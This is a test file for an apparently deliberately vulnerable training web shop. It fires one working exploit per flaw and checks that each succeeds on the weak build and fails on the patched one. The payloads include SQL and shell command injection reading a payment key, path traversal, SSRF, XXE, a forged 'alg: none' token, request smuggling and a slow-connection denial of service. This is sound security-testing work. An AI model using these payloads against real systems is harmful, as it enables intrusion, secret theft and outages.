import { readFileSync } from 'node:fs'
import { setTimeout as wait } from 'node:timers/promises'
import { createServer } from 'node:http'
import type { Server } from 'node:http'
import { connect } from 'node:net'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { flaws } from '../src/index.ts'
import { heldAtMost } from '../src/state/holds.ts'
import { headTimeoutMs, weakConnections } from '../src/start-shop.ts'
import type { FlawId, RunningShop } from '../src/index.ts'
import { createClient } from './client.ts'
import type { TestClient } from './client.ts'
import { startTestShops } from './start-test-shop.ts'
import type { TestShops } from './start-test-shop.ts'

/** What an exploit works with; `inside` is a server that only the shop's machine should reach. */
interface Scene {
  readonly client: TestClient
  readonly shop: RunningShop
  readonly inside: number
}

let shops: TestShops
let weak: RunningShop
let patched: RunningShop
let inside: Server

beforeAll(async () => {
  shops = await startTestShops()
  weak = await shops.start('weak')
  patched = await shops.start('patched', { patched: 'all' })
  inside = createServer((_request, response) => response.end('inside-answer'))
  await new Promise<void>((resolve) => inside.listen(0, '127.0.0.1', resolve))
})

afterAll(async () => {
  await shops.close()
  await new Promise((resolve) => inside.close(resolve))
})

const enc = encodeURIComponent
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')
const logIn = (client: TestClient): Promise<unknown> =>
  client.form('/login', { user: 'mallory', password: 'trail-mix' })

async function shows(
  scene: Scene,
  path: string,
  secret: 'paymentKey' | 'fileKey' = 'paymentKey',
): Promise<boolean> {
  return (await scene.client.send(path)).text.includes(scene.shop.shop.secrets[secret])
}

async function uploadAs(client: TestClient, fileName: string, data: string): Promise<void> {
  const body = `--B\r\nContent-Disposition: form-data; name="picture"; filename="${fileName}"\r\n\r\n${data}\r\n--B--\r\n`
  await logIn(client)
  await client.send('/account/picture', {
    method: 'POST',
    body,
    headers: { 'content-type': 'multipart/form-data; boundary=B' },
  })
}

function xml(client: TestClient, subset: string): Promise<{ readonly text: string }> {
  const body = `<!DOCTYPE p [${subset}]><prices><price product="1">&x;</price></prices>`
  return client.send('/api/price-list', {
    method: 'POST',
    body,
    headers: { 'content-type': 'application/xml' },
  })
}

/** One exploit for each flaw: true when it worked. */
const exploits: Readonly<Record<FlawId, (scene: Scene) => Promise<boolean>>> = {
  'sql-search': (s) => shows(s, `/search?q=${enc("zz' UNION SELECT 0,value,key,0,'' FROM settings--")}`),
  'sql-login': async (s) => {
    await s.client.form('/login', { user: "admin'--", password: '' })
    return shows(s, '/admin')
  },
  'sql-product': async (s) =>
    (await s.client.send(`/product/${enc('0 OR id=900')}`)).text.includes('Winter preview'),
  'sql-sort': async (s) => {
    const page = async (than: string): Promise<string> =>
      (await s.client.send(`/category/tents?sort=${enc(`(CASE WHEN 1${than}2 THEN id ELSE -id END)`)}`)).text
    return (await page('<')).indexOf('Tarp Larch') > (await page('>')).indexOf('Tarp Larch')
  },
  'sql-cookie': (s) => {
    s.client.cookies.set('viewed', base64("0) UNION SELECT 1,value,key,0,'' FROM settings--"))
    return shows(s, '/')
  },
  'sql-api': async (s) => {
    await s.client.send(
      `/api/products?category=${enc("x'; UPDATE users SET role='admin' WHERE name='mallory';--")}`,
    )
    await logIn(s.client)
    return shows(s, '/admin')
  },
  'sql-second-order': async (s) => {
    await logIn(s.client)
    await s.client.form('/account', { display: "x' UNION SELECT 0,value,0 FROM settings--" })
    return shows(s, '/account')
  },
  'parameter-join': async (s) => (await s.client.send('/search?q=storm&q=lamp')).text.includes('storm,lamp'),
  'error-disclosure': async (s) => {
    await s.shop.shop.database.rows('DROP TABLE reviews')
    return (await s.client.send('/product/1')).text.includes('relation')
  },
  'nosql-login': async (s) =>
    (await s.client.json('/api/login', { partner: 'northwind', password: { $ne: null } })).text.includes(
      s.shop.shop.secrets.partnerKey,
    ),
  'nosql-filter': async (s) =>
    (await s.client.json('/api/reviews/find', { approved: false })).text.includes(
      s.shop.shop.secrets.heldReview,
    ),
  'command-label': async (s) =>
    (await s.client.form('/delivery/label', { name: 'x; cat private/payment.key #' })).text.includes(
      s.shop.shop.secrets.fileKey,
    ),
  'command-newsletter': async (s) => {
    await s.client.form('/newsletter', { email: '$(cp private/payment.key uploads/n.txt)@x' })
    return shows(s, '/uploads/n.txt', 'fileKey')
  },
  'argument-help': (s) => shows(s, '/help?topic=.%20private/payment.key', 'fileKey'),
  'path-download': (s) => shows(s, '/download?file=../private/payment.key', 'fileKey'),
  'path-assets': (s) => shows(s, '/assets/..%2fprivate%2fpayment.key', 'fileKey'),
  'path-picture': (s) => shows(s, '/picture?name=%252e%252e%252fprivate%252fpayment.key', 'fileKey'),
  'ssrf-image': async (s) =>
    (await s.client.send(`/api/image?url=${enc(`http://127.0.0.1:${s.inside}/`)}`)).text === 'inside-answer',
  'ssrf-webhook': async (s) =>
    (await s.client.json('/api/webhook', { url: `http://2130706433:${s.inside}/` })).text.includes(
      'inside-answer',
    ),
  'template-gift': async (s) => (await s.client.form('/gift', { message: '{{6*7}}' })).text.includes('42'),
  'prototype-preferences': async (s) => {
    const body = '{"__proto__":{"admin":true}}'
    await s.client.send('/api/preferences', {
      method: 'PATCH',
      body,
      headers: { 'content-type': 'application/json' },
    })
    return shows(s, '/admin')
  },
  'deserialise-cart': async (s) =>
    (await s.client.form('/cart/import', { cart: base64('{"label":"$js:() => 6*7"}') })).text.includes(
      'Loaded: 42',
    ),
  'xxe-prices': async (s) => {
    const path = join(s.shop.shop.folder.private, 'payment.key')
    return (await xml(s.client, `<!ENTITY x SYSTEM "file://${path}">`)).text.includes(
      s.shop.shop.secrets.fileKey,
    )
  },
  'entity-expansion': async (s) => {
    const grow = Array.from(
      { length: 5 },
      (_unused, n) =>
        `<!ENTITY ${n === 4 ? 'x' : `e${n}`} "${n === 0 ? 'lol lol lol ' : `&e${n - 1};`.repeat(12)}">`,
    )
    return /"characters":\d{6}/.test((await xml(s.client, grow.join(''))).text)
  },
  'xss-search': async (s) => (await s.client.send(`/search?q=${enc('<i id=x>')}`)).text.includes('<i id=x>'),
  'xss-review': async (s) => {
    await s.client.form('/product/1/review', { stars: '5', text: '<i id=x>' })
    return (await s.client.send('/product/1')).text.includes('<i id=x>')
  },
  'redirect-go': async (s) =>
    (await s.client.send('/go?to=//evil.example/')).headers['location'] === '//evil.example/',
  'upload-any': async (s) => {
    await uploadAs(s.client, 'a.html', '<i>')
    const page = await s.client.send('/uploads/a.html')
    return page.text === '<i>' && String(page.headers['content-type']).startsWith('text/html')
  },
  'upload-traversal': async (s) => {
    await uploadAs(s.client, '../files/a.png', 'owned')
    return (await s.client.send('/download?file=a.png')).text === 'owned'
  },
  'login-no-lockout': async (s) => {
    for (let count = 0; count < 8; count++)
      await s.client.form('/login', { user: 'anna', password: `p${count}` })
    return (await s.client.form('/login', { user: 'anna', password: 'sunshine1' })).status === 303
  },
  'session-predictable': (s) => {
    s.client.cookies.set('sid', '1000')
    return shows(s, '/admin')
  },
  'token-none': async (s) => {
    const authorization = `Bearer ${part({ alg: 'none' })}.${part({ name: 'm', role: 'admin' })}.`
    return (await s.client.send('/api/me', { headers: { authorization } })).status === 200
  },
  'idor-order': async (s) => (await s.client.send('/api/orders/1')).text.includes('Uppsala'),
  'mass-assignment': async (s) => {
    await logIn(s.client)
    await s.client.json('/api/account', { role: 'admin' })
    return shows(s, '/admin')
  },
  'header-trust': async (s) =>
    (await s.client.send('/intranet', { headers: { 'x-forwarded-for': '10.0.0.7' } })).status === 200,
  'redos-coupon': async (s) => {
    const long = await s.client.form('/cart/coupon', { code: `${'A'.repeat(25)}!` })
    const short = await s.client.form('/cart/coupon', { code: 'AA!' })
    return long.ms > short.ms + 100
  },
  'smuggle-warehouse': async (s) => {
    const body = 'product=7GET /label-key HTTP/1.1\r\n\r\n'
    const socket = connect(s.shop.port, '127.0.0.1')
    socket.on('error', () => undefined)
    socket.write(
      `POST /stock/notify HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9\r\nTransfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`,
    )
    // The answer, or the end of a connection whose request was refused.
    await new Promise((resolve) => socket.once('data', resolve).once('close', resolve))
    socket.destroy()
    const { text } = await s.client.form('/stock/notify', { product: '8' })
    return text.includes(s.shop.shop.secrets.paymentKey)
  },
  'hold-flood': async (s) => {
    const { holds } = s.shop.shop
    for (let i = 3; i < heldAtMost; i += 1) holds.take('others', Date.now(), Infinity)
    for (let i = 0; i < 3; i += 1) await s.client.form('/stock/hold', {})
    return !holds.take('somebody else', Date.now(), 1)
  },
  'slow-client': async (s) => {
    const sockets = Array.from({ length: weakConnections + 20 }, () => {
      const socket = connect(s.shop.port, '127.0.0.1')
      socket.on('error', () => {})
      socket.write('GET / HTTP/1.1\r\nX-Slow: ')
      return socket
    })
    // Long enough for a shop that bounds the time of a head to hang up on all of them.
    await wait(headTimeoutMs + 800)
    const served = await s.client.send('/health').then(
      (answer) => answer.status === 200,
      () => false,
    )
    for (const socket of sockets) socket.destroy()
    return !served
  },
  'forgotten-backup': async (s) =>
    (await s.client.send('/backup/shop.sql.old')).text.includes('anna@example.org'),
}

describe.each(flaws.map((flaw) => [flaw.id, flaw] as const))('flaw %s', (id) => {
  const attempt = async (shop: RunningShop): Promise<boolean> => {
    await shop.reset(`flaw ${id}`)
    const { port } = inside.address() as AddressInfo
    return exploits[id]({ client: createClient(shop.port), shop, inside: port })
  }

  it('is there in the weak shop', async () => {
    expect(await attempt(weak)).toBe(true)
  })

  it('is gone in the patched shop', async () => {
    expect(await attempt(patched)).toBe(false)
  })
})

describe('the README', () => {
  const readme = readFileSync(new URL('../README.md', import.meta.url), 'utf8')

  it.each(flaws)('documents $id with class, CWE and endpoint', (flaw) => {
    const line = readme.split('\n').find((text) => text.includes(`| \`${flaw.id}\` |`))
    expect(line).toContain(flaw.class)
    expect(line).toContain(`CWE-${flaw.cwe}`)
    expect(line).toContain(flaw.endpoint)
    expect(line?.replaceAll('\\|', '|')).toContain(flaw.example)
  })

  it('documents no flaw that is not there', () => {
    const rows = [...readme.matchAll(/^\| `([a-z-]+)` \|/gm)].map((match) => match[1])
    expect(rows.toSorted()).toEqual(flaws.map((flaw) => flaw.id).toSorted())
  })
})
